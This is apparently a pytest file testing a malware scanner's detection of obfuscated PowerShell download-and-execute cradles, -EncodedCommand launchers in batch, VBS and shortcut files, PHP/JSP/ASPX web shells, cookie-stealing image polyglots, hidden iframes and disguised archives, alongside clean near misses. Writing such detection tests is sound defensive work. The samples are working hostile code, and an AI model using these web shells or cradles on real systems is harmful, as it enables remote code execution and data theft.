"""Detection classes written from public descriptions, not from the rules: PowerShell
cradles in their common obfuscations and -EncodedCommand payloads in several carriers,
PHP/JSP/ASP(X) web shells, EICAR per its published definition, image/script
polyglots, hidden-iframe HTML and archives disguised as text holding executables.

Each class has several variants shaped like samples seen in the wild (Invoke-Obfuscation
output, China Chopper, the classic ``cmd.jsp``, Metasploit-style ``-enc`` launchers)
and near misses that must stay clean.
"""

from __future__ import annotations

import base64
import struct
import zlib

import pytest

from secops.scanning import Scanner, Severity, Verdict
from tests.scanning.conftest import ids
from tests.scanning.corpus import EICAR, minimal_elf, minimal_pe, png, zip_bytes


def enc(script: str) -> str:
    """What ``[Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes($s))`` gives."""
    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")


def lnk(arguments: str, target: str = r"C:\Windows\System32\WindowsPowerShell\v1.0"
        r"\powershell.exe") -> bytes:
    """A Shell Link (MS-SHLLINK) with relative path and arguments in UTF-16LE StringData."""
    clsid = bytes.fromhex("0114020000000000c000000000000046")
    flags = 0x08 | 0x20 | 0x80  # HasRelativePath | HasArguments | IsUnicode
    header = struct.pack("<I16sII8s8s8sIIIH10s", 0x4C, clsid, flags, 0x20, b"\0" * 8,
                         b"\0" * 8, b"\0" * 8, 0, 0, 7, 0, b"\0" * 10)
    assert len(header) == 0x4C

    def string(value: str) -> bytes:
        return struct.pack("<H", len(value)) + value.encode("utf-16-le")

    return header + string(target) + string(arguments) + b"\0\0\0\0"


CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://198.18.7.20/a.ps1')"

POWERSHELL_MALICIOUS: dict[str, bytes] = {
    "plain.ps1": CRADLE.encode(),
    "backticks.ps1":
        b"I`E`X (New-Object N`et.W`ebCl`ient).Do`wnloadStr`ing('http://198.18.7.20/a')",
    "concat.ps1":
        b"$w = New-Object ('Sy'+'stem.Net.'+'WebClient')\n"
        b"I`EX ($w.('Down'+'loadStr'+'ing')('http://cdn.test-update.net/u'))\n",
    "format.ps1":
        b"& ('{1}{0}' -f 'EX','I') ((New-Object (\"{2}{0}{1}\" -f 'bC','lient','Net.We'))"
        b".(\"{0}{1}\" -f 'DownloadStr','ing').Invoke(\"http://45.9.148.3/p\"))",
    "case_dot.ps1":
        b"$u = 'https://paste.example-cdn.net/raw/x'\n"
        b".( 'iEx' ) ( NeW-ObJeCt SyStEm.NeT.WeBcLiEnT ).dOwNlOaDsTrInG( $u )",
    "iwr_pipe.ps1": b"iwr -UseBasicParsing http://203.0.113.9/stage2 | iex",
    "content.ps1":
        b"$r = Invoke-WebRequest -Uri 'http://10.1.1.1/s.ps1' -UseBasicParsing\n"
        b"Write-Verbose 'got it'\nInvoke-Expression $r.Content\n",
    "curl_alias.ps1": b"iex (curl http://192.168.56.10/x.ps1).Content",
    "irm.ps1": b"irm https://get.tools-cdn.net/i.ps1 | &('i'+'ex')",
    "shellid.ps1":
        b". ($ShellId[1]+$ShellId[13]+'x') ((nEw-oBjECt nET.wEbCLIEnT).DoWnLoAdStRiNg("
        b"'http://x.test/a'))",
    "comspec.ps1":
        b"&( $env:ComSpec[4,15,25]-Join'') ( [char]73+[char]69+[char]88 | Out-Null;"
        b" (New-Object Net.WebClient).DownloadString('http://x.test/b'))",
    "scriptblock.ps1":
        b"$s = (New-Object Net.WebClient).DownloadString('http://x.test/c')\n"
        b"& ([ScriptBlock]::Create($s))\n",
    "downloadfile.ps1":
        b"(New-Object Net.WebClient).DownloadFile('http://x.test/u.exe',\"$env:TEMP\\u.exe\");"
        b"Start-Process \"$env:TEMP\\u.exe\"",
}

POWERSHELL_CLEAN: dict[str, bytes] = {
    "install_notes.ps1":
        b"# Download the installer with Invoke-WebRequest, then run it yourself.\n"
        b"Invoke-WebRequest -Uri $InstallerUrl -OutFile setup.msi\n"
        b"Get-FileHash setup.msi -Algorithm SHA256\n",
    "expression.ps1":
        b"$expr = '1 + 2'\n$total = Invoke-Expression $expr\nWrite-Output $total\n",
    "webclient.ps1":
        b"$wc = New-Object Net.WebClient\n$wc.DownloadFile($url, 'report.csv')\n"
        b"Import-Csv report.csv | Format-Table\n",
    "readme.txt":
        b"PowerShell's IEX alias runs a string; DownloadString fetches one. Together they\n"
        b"form what attackers call a cradle, so review scripts that use both.\n",
    "tool.bat": b"@echo off\r\npowershell.exe -ExecutionPolicy Bypass -File build.ps1 -e prod\r\n",
}


@pytest.mark.parametrize("name", sorted(POWERSHELL_MALICIOUS))
def test_powershell_cradles_are_malicious(scanner: Scanner, name: str) -> None:
    result = scanner.scan_bytes(POWERSHELL_MALICIOUS[name], name)
    assert result.verdict is Verdict.MALICIOUS
    assert "powershell.download_cradle" in ids(result)


@pytest.mark.parametrize("name", sorted(POWERSHELL_CLEAN))
def test_powershell_near_misses_are_clean(scanner: Scanner, name: str) -> None:
    result = scanner.scan_bytes(POWERSHELL_CLEAN[name], name)
    assert result.verdict is Verdict.CLEAN, result.findings


ENCODED_CARRIERS: dict[str, bytes] = {
    "launch.bat": (f"@echo off\r\nstart /b powershell.exe -NoP -sta -NonI -W Hidden -Enc "
                   f"{enc(CRADLE)}\r\n").encode(),
    "run.vbs": (f'Set sh = CreateObject("WScript.Shell")\r\nsh.Run "powershell -ec '
                f'{enc("iwr http://x.test/s | iex")}", 0, False\r\n').encode(),
    "invoice.lnk": lnk(f"-nop -w hidden -encodedcommand {enc(CRADLE)}"),
    "macro.txt": (f'cmd /c "powershell /e {enc(CRADLE)}"').encode(),
    "nested.cmd": (f"powershell -enco "
                   f"{enc('powershell -EncodedCommand ' + enc(CRADLE))}\r\n").encode(),
    "utf16.ps1": b"\xff\xfe" + f"powershell -eNcOdEdCoMmAnD {enc(CRADLE)}".encode("utf-16-le"),
}


@pytest.mark.parametrize("name", sorted(ENCODED_CARRIERS))
def test_encoded_cradles_are_decoded_and_malicious(scanner: Scanner, name: str) -> None:
    result = scanner.scan_bytes(ENCODED_CARRIERS[name], name)
    assert result.verdict is Verdict.MALICIOUS
    cradles = [f for f in result.findings if f.id == "powershell.download_cradle"]
    assert any("decoded -EncodedCommand payload" in f.description for f in cradles)
    assert "powershell.encoded_command" in ids(result)


def test_encoded_command_in_an_archive_member_is_located(scanner: Scanner) -> None:
    data = zip_bytes([("docs/readme.txt", b"nothing here"),
                      ("start.bat", ENCODED_CARRIERS["launch.bat"])])
    result = scanner.scan_bytes(data, "bundle.zip")
    assert {f.location for f in result.findings if f.id == "powershell.download_cradle"} == {
        "bundle.zip!start.bat"}


def test_benign_encoded_command_is_decoded_but_not_malicious(scanner: Scanner) -> None:
    script = "Get-ChildItem C:/Logs | Measure-Object"
    data = f"powershell.exe -EncodedCommand {enc(script)}"
    result = scanner.scan_bytes(data.encode(), "job.cmd")
    assert result.verdict is Verdict.SUSPICIOUS  # hidden commands are worth a look
    assert "powershell.download_cradle" not in ids(result)
    assert [f.description for f in result.findings if f.id == "powershell.encoded_command"] == [
        f"PowerShell -EncodedCommand payload decoded ({len(script)} characters) and scanned"]


def test_base64_that_is_not_utf16_is_not_decoded(scanner: Scanner) -> None:
    blob = base64.b64encode(b"just some binary \x00\x01\x02 data of no interest").decode()
    result = scanner.scan_bytes(f"openssl enc -e {blob}".encode(), "notes.sh")
    assert "powershell.encoded_command" not in ids(result)


def _packed(code: bytes) -> bytes:
    raw = zlib.compressobj(9, zlib.DEFLATED, -15)
    return base64.b64encode(raw.compress(code) + raw.flush())


WEBSHELLS: dict[str, tuple[bytes, str]] = {
    "var_function.php": (b"<?php $f = $_GET['f']; $a = $_GET['a']; echo $f($a); ?>", "PHP"),
    "direct_varfunc.php": (b"<?php @$_REQUEST['x']($_REQUEST['y']); ?>", "PHP"),
    "create_function.php": (b"<?php $fn = create_function('', $_POST['code']); $fn(); ?>",
                            "PHP"),
    "assert.php": (b"<?php if (isset($_POST['z'])) { @assert($_POST['z']); } ?>", "PHP"),
    "preg_e.php": (b"<?php preg_replace(\"/.*/e\", $_REQUEST['c'], \"x\"); ?>", "PHP"),
    "backtick.php": (b"<?php $c = $_GET['c']; print `$c 2>&1`; ?>", "PHP"),
    "simple_backdoor.php": (b"<!-- Simple PHP backdoor -->\n<?php\nif(isset($_REQUEST['cmd']))"
                            b"{\n  echo \"<pre>\";\n  $cmd = ($_REQUEST['cmd']);\n"
                            b"  system($cmd);\n  echo \"</pre>\";\n  die;\n}\n?>", "PHP"),
    "passthru_decode.php": (b"<?php passthru(base64_decode($_COOKIE['d'])); ?>", "PHP"),
    "callback.php": (b"<?php array_map($_POST['cb'], array($_POST['arg'])); ?>", "PHP"),
    "packed.php": (b"<?php eval(gzinflate(base64_decode('" + _packed(
        b"$k = $_POST['k']; shell_exec($k);") + b"'))); ?>", "PHP"),
    "input.php": (b"<?php $d = file_get_contents('php://input'); eval($d); ?>", "PHP"),
    "cmd.jsp": (b'<%@ page import="java.util.*,java.io.*"%>\n<%\nif (request.getParameter'
                b'("cmd") != null) {\n  Process p = Runtime.getRuntime().exec(request.'
                b'getParameter("cmd"));\n  OutputStream os = p.getOutputStream();\n}\n%>', "JSP"),
    "builder.jsp": (b'<% String c = request.getParameter("c");\nProcessBuilder pb = new '
                    b'ProcessBuilder("bash", "-c", c);\npb.start(); %>', "JSP"),
    "array.jsp": (b'<% String cmd = request.getParameter("q");\nString[] args = {"/bin/sh",'
                  b' "-c", cmd};\nProcess p = Runtime.getRuntime().exec(args); %>', "JSP"),
    "chopper.aspx": (b'<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>',
                     "ASP"),
    "classic.asp": (b'<%\nDim c\nc = Request("cmd")\nExecute c\n%>', "ASP"),
    "process.aspx": (b'<%@ Page Language="C#" %>\n<script runat="server">\nvoid Page_Load()'
                     b' {\n  var psi = new System.Diagnostics.ProcessStartInfo();\n  psi.'
                     b'FileName = "cmd.exe";\n  psi.Arguments = "/c " + Request.QueryString'
                     b'["c"];\n  System.Diagnostics.Process.Start(psi);\n}\n</script>', "ASP"),
    "start.aspx": (b'<%@ Page Language="C#" %><% string c = Request.Form["c"]; '
                   b'System.Diagnostics.Process.Start("cmd.exe", "/c " + c); %>', "ASP"),
}

SERVER_PAGES_CLEAN: dict[str, bytes] = {
    "form.php": b"<?php $name = htmlspecialchars($_POST['name'] ?? ''); echo \"Hi $name\";"
                b" $rows = array_map('trim', $_POST); exec('uptime', $out); ?>",
    "router.php": b"<?php $page = $_GET['page'] ?? 'home'; $allowed = ['home', 'about'];\n"
                  b"if (in_array($page, $allowed, true)) { include __DIR__ . '/pages/home.php';"
                  b" }\nsystem('date'); ?>",
    "sort.php": b"<?php usort($_SESSION['rows'], 'strcmp'); echo count($_GET); ?>",
    "search.jsp": b'<% String q = request.getParameter("q"); out.println(q.length());\n'
                  b'Runtime.getRuntime().exec("/usr/bin/uptime"); %>',
    "greet.aspx": b'<%@ Page Language="C#" %><% string n = Request.Form["n"]; '
                  b'Response.Write(Server.HtmlEncode(n)); Process.Start("notepad.exe"); %>',
    "config.php": b"<?php eval('return ' . var_export($defaults, true) . ';'); ?>",
}


@pytest.mark.parametrize("name", sorted(WEBSHELLS))
def test_webshells_are_malicious(scanner: Scanner, name: str) -> None:
    data, language = WEBSHELLS[name]
    result = scanner.scan_bytes(data, name)
    assert result.verdict is Verdict.MALICIOUS
    assert f"webshell.{language.lower()}" in ids(result)


@pytest.mark.parametrize("name", sorted(SERVER_PAGES_CLEAN))
def test_server_pages_without_shells_are_clean(scanner: Scanner, name: str) -> None:
    result = scanner.scan_bytes(SERVER_PAGES_CLEAN[name], name)
    assert not {i for i in ids(result) if i.startswith("webshell.")}
    assert result.verdict is Verdict.CLEAN, result.findings


def test_packed_php_is_reported_as_packed(scanner: Scanner) -> None:
    result = scanner.scan_bytes(WEBSHELLS["packed.php"][0], "packed.php")
    assert [f.description for f in result.findings if f.id == "webshell.php"] == [
        "packed PHP web shell: shell_exec on request input"]


# EICAR's published definition: the 68-byte string first, then optional white space
# from {space, tab, LF, CR, Ctrl-Z} only, 128 bytes at most in all.
@pytest.mark.parametrize(("suffix", "expected"), [
    (b"", True),
    (b"\x1a", True),  # Ctrl-Z, as DOS editors append
    (b"\r\n\x1a", True),
    (b"\t \t\n", True),
    (b"\r\n" * 30, True),  # 128 bytes exactly
    (b" \x1a" * 30 + b"\r", False),  # 129 bytes
    (b"\x0b", False),  # vertical tab is not in the definition
    (b"\x0c", False),  # nor form feed
    (b"\x00", False),
    (b"\n\x1a-", False),
])
def test_eicar_trailing_whitespace_per_definition(scanner: Scanner, suffix: bytes,
                                                  expected: bool) -> None:
    result = scanner.scan_bytes(EICAR + suffix, "eicar.com")
    assert ("yara.SECOPS_EICAR_Test_File" in ids(result)) is expected
    assert (result.verdict is Verdict.MALICIOUS) is expected


def test_eicar_with_ctrl_z_inside_an_archive(scanner: Scanner) -> None:
    result = scanner.scan_bytes(zip_bytes([("eicar.com", EICAR + b"\r\n\x1a")]), "t.zip")
    assert {f.location for f in result.findings if f.id == "yara.SECOPS_EICAR_Test_File"} == {
        "t.zip!eicar.com"}


GIF_HEADER = b"GIF89a"
JS_GIF = (GIF_HEADER + b"/*\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00"
          b"\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
          b"*/=alert(document.cookie);/*" + b"\x00" * 16 + b"*/")
JS_JPEG = (b"\xff\xd8\xff\xe0\x2f\x2aJFIF\x00\x01\x01\x01\x00H\x00H\x00\x00" + b"\x00" * 12054
           + b"*/=fetch('//x.test/'+document.cookie);/*" + b"\xff\xd9")
PHP_GIF = (GIF_HEADER + b"\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xfe\x1e"
           b"<?php system($_GET['c']); ?>\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D"
           b"\x01\x00;")
HTML_JPEG = (b"\xff\xd8\xff\xfe\x00\x30<html><script src=//x.test/k.js></script></html>"
             + b"\xff\xd9")
HTML_PNG = png() + b"<iframe src=http://x.test/ width=0 height=0></iframe>"
XMP_JPEG = (b"\xff\xd8\xff\xe1\x01\x00http://ns.adobe.com/xap/1.0/\x00<?xpacket begin='' "
            b"id='W5M0MpCehiHzreSzNTczkc9d'?><x:xmpmeta xmlns:x='adobe:ns:meta/'>"
            b"<rdf:RDF/></x:xmpmeta><?xpacket end='w'?>" + b"\x00" * 64 + b"\xff\xd9")


@pytest.mark.parametrize(("name", "data", "rule"), [
    ("pixel.gif", JS_GIF, "yara.SECOPS_Polyglot_Image_JavaScript"),
    ("photo.jpg", JS_JPEG, "yara.SECOPS_Polyglot_Image_JavaScript"),
    ("avatar.gif", PHP_GIF, "yara.SECOPS_Polyglot_Image_Markup"),
    ("scan.jpg", HTML_JPEG, "yara.SECOPS_Polyglot_Image_Markup"),
    ("logo.png", HTML_PNG, "yara.SECOPS_Polyglot_Image_Markup"),
])
def test_image_script_polyglots_are_suspicious(scanner: Scanner, name: str, data: bytes,
                                               rule: str) -> None:
    result = scanner.scan_bytes(data, name)
    assert rule in ids(result)
    assert result.verdict in (Verdict.SUSPICIOUS, Verdict.MALICIOUS)


@pytest.mark.parametrize(("name", "data"), [
    ("xmp.jpg", XMP_JPEG),
    ("plain.png", png(16, 16, seed=3)),
    ("plain.gif", GIF_HEADER + b"\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff,\x00"
     b"\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"),
])
def test_plain_images_are_not_polyglots(scanner: Scanner, name: str, data: bytes) -> None:
    result = scanner.scan_bytes(data, name)
    assert not {i for i in ids(result) if "Polyglot" in i}
    assert result.verdict is Verdict.CLEAN


HIDDEN_IFRAME_HTML: dict[str, bytes] = {
    "zero.html": b"<html><body><p>Welcome</p><iframe src=\"http://x.test/l\" width=\"0\" "
                 b"height=\"0\" frameborder=\"0\"></iframe><script>eval(atob('YWxlcnQoMSk='))"
                 b"</script></body></html>",
    "offscreen.html": b"<html><div><iframe src='//x.test/k' style='position:absolute;"
                      b"left:-9999px;top:-9999px'></iframe></div><script>var w=window;"
                      b"w[\"\\x65\\x76\\x61\\x6c\"](w[\"\\x61\\x74\\x6f\\x62\"]('YQ=='));"
                      b"</script></html>",
    "hidden_style.htm": b"<!DOCTYPE html><html><iframe src=http://x.test/ style=\"display:none\">"
                        b"</iframe><script>document.write(unescape('%3Cp%3E'))</script></html>",
    "dynamic.html": b"<html><script>var f = document.createElement('iframe');\n"
                    b"f.style.visibility = 'hidden';\nf.src = atob('aHR0cDovL3gudGVzdC8=');\n"
                    b"document.body.appendChild(f);</script></html>",
}
IFRAME_HTML_CLEAN: dict[str, bytes] = {
    "gtm.html": b"<html><body><noscript><iframe src=\"https://www.googletagmanager.com/ns.ht"
                b"ml?id=GTM-ABC\" height=\"0\" width=\"0\" style=\"display:none;visibility:"
                b"hidden\"></iframe></noscript><script>dataLayer.push({})</script></body></html>",
    "video.html": b"<html><iframe width=\"560\" height=\"315\" src=\"https://www.youtube-nocoo"
                  b"kie.com/embed/x\"></iframe><script>var cfg = JSON.parse(atob(s));</script>"
                  b"</html>",
}


@pytest.mark.parametrize("name", sorted(HIDDEN_IFRAME_HTML))
def test_hidden_iframe_with_decoder_is_suspicious(scanner: Scanner, name: str) -> None:
    result = scanner.scan_bytes(HIDDEN_IFRAME_HTML[name], name)
    assert "yara.SECOPS_HTML_Hidden_Iframe_Decoder" in ids(result)
    assert result.verdict is Verdict.SUSPICIOUS


@pytest.mark.parametrize("name", sorted(IFRAME_HTML_CLEAN))
def test_iframes_without_the_pair_are_clean(scanner: Scanner, name: str) -> None:
    result = scanner.scan_bytes(IFRAME_HTML_CLEAN[name], name)
    assert result.verdict is Verdict.CLEAN, result.findings


@pytest.mark.parametrize(("name", "members", "count"), [
    ("notes.txt", [("setup.exe", minimal_pe())], 1),
    ("invoice.pdf", [("readme.md", b"# hi"), ("bin/run", minimal_elf())], 1),
    ("photo.jpg", [("a/x.js", b"WScript.Echo(1)"), ("b/y.vbs", b"MsgBox 1")], 2),
    ("report.csv", [("inner.zip", zip_bytes([("tool.scr", minimal_pe())]))], 1),
])
def test_archive_disguised_as_document_with_executables(
        scanner: Scanner, name: str, members: list[tuple[str, bytes]], count: int) -> None:
    result = scanner.scan_bytes(zip_bytes(members), name)
    found = [f for f in result.findings if f.id == "type.disguised_container"]
    assert [(f.severity, f.location) for f in found] == [(Severity.HIGH, None)]
    assert f"holds {count} executable member(s)" in found[0].description
    assert result.verdict is Verdict.SUSPICIOUS


@pytest.mark.parametrize(("name", "members"), [
    ("bundle.zip", [("setup.exe", minimal_pe())]),  # an archive named as one
    ("notes.txt", [("a.txt", b"hello"), ("b.csv", b"1,2")]),  # no executable inside
    ("report.docx", [("word/document.xml", b"<w/>"), ("word/x.bin", minimal_pe())]),
])
def test_containers_that_are_not_disguised(scanner: Scanner, name: str,
                                           members: list[tuple[str, bytes]]) -> None:
    result = scanner.scan_bytes(zip_bytes(members), name)
    assert "type.disguised_container" not in ids(result)


def test_script_bundles_are_not_web_shells_or_drive_by_pages(scanner: Scanner) -> None:
    """Minified JavaScript with templates, fetch Requests, regex .exec and markup strings."""
    bundle = (b"var T=_.template('<% if (a) { %><b><%= a %></b><% } %>');"
              b"function l(a){var b=E.exec(a);return b}var a=new Request(u,{method:'GET'});"
              b"var q=a.url;fetch(a).then(function(r){return E.exec(q)});"
              b"var h='<html><body><iframe width=\"0\" height=\"0\"></iframe></body></html>';"
              b"var f=document.createElement('iframe');f.style.display='none';"
              b"eval(atob(s));" + b"x=1;" * 400)
    result = scanner.scan_bytes(bundle, "extension.js")
    assert result.verdict is Verdict.CLEAN, result.findings


def test_option_followed_by_base64_text_is_not_an_encoded_command(scanner: Scanner) -> None:
    # "-e" options and base64 that decodes to non-ASCII UTF-16 (CJK-looking) text
    text = (b"grep -e Zm9vYmFyYmF6cXV4cXV1eA== log.txt\n"
            b"perf record -e sys_enter_openat_tracepoint_events -a\n")
    result = scanner.scan_bytes(text, "notes.sh")
    assert "powershell.encoded_command" not in ids(result)


def test_worker_script_quoting_script_tags_is_not_obfuscated_html(scanner: Scanner) -> None:
    worker = (b"/*! worker */(function(){var t='<script src=\"'+u+'\"></script>';"
              + b"s+=String.fromCharCode(c);" * 12 + b"})();")
    assert scanner.scan_bytes(worker, "workerMain.js").verdict is Verdict.CLEAN
    page = b"  <html><script>" + b"s+=String.fromCharCode(c);" * 12 + b"</script></html>"
    assert "yara.SECOPS_JS_Obfuscated_In_HTML" in ids(scanner.scan_bytes(page, "p.html"))
